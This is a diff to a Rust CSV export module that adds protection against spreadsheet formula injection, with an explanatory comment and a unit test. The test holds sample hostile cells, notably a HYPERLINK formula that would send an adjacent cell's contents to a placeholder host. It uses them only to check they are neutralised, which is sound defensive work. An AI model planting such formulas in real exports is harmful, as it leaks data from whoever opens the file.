@@ -5,6 +5,13 @@
 //! are byte-identical and diff cleanly. CSV has one column per top-level field found in the
 //! records of that type (`id` and `type` first, then alphabetical); nested values (lists,
 //! objects) are written as their JSON.
+//!
+//! A CSV is opened in a spreadsheet, and records come from many hands: a cell that begins with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return would be read there as a formula (one that
+//! fetches a web address with the cells beside it, or runs a command). Such a cell is written
+//! with a `'` before it, which spreadsheets read as "text follows" (OWASP's advice on CSV
+//! injection); a number such as `-12` or `+1.5` is left as it is. The JSON Lines export, which
+//! is what re-imports, is never changed.
 
 use std::collections::BTreeSet;
 use std::io::Write;
@@ -31,13 +38,19 @@ pub fn write_csv(out: &mut dyn Write, records: &[Map<String, Value>]) -> Result<
     for record in records {
         let row = header.iter().map(|field| match record.get(*field) {
             None => String::new(),
-            Some(Value::String(s)) => s.clone(),
+            Some(Value::String(s)) => inert(s.clone()),
             Some(other) => String::from_utf8(to_canonical(other)).unwrap_or_default(),
         });
         writer.write_record(row)?;
     }
     writer.flush()?;
     Ok(())
+}
+
+/// The cell as a spreadsheet will take it for text: a `'` before one it would read as a formula.
+fn inert(cell: String) -> String {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula && cell.parse::<f64>().is_err() { format!("'{cell}") } else { cell }
 }
 
 #[cfg(test)]
@@ -51,6 +64,20 @@ mod tests {
         let record = json!({"type": "org", "id": "o", "name": "ICE"});
         write_jsonl(&mut out, record.as_object().unwrap()).unwrap();
         assert_eq!(String::from_utf8(out).unwrap(), "{\"id\":\"o\",\"name\":\"ICE\",\"type\":\"org\"}\n");
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
+        let record = json!({"type": "source", "id": "s1", "title": "=HYPERLINK(\"http://x/?\"&A1,\"open\")",
+            "note": "@SUM(1)", "kind": "-2+3", "url": "+1.5", "language": "-12", "published": "2025"});
+        let mut out = Vec::new();
+        write_csv(&mut out, &[record.as_object().unwrap().clone()]).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        assert_eq!(
+            row,
+            "s1,source,'-2+3,-12,'@SUM(1),2025,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\",+1.5"
+        );
     }
 
     #[test]
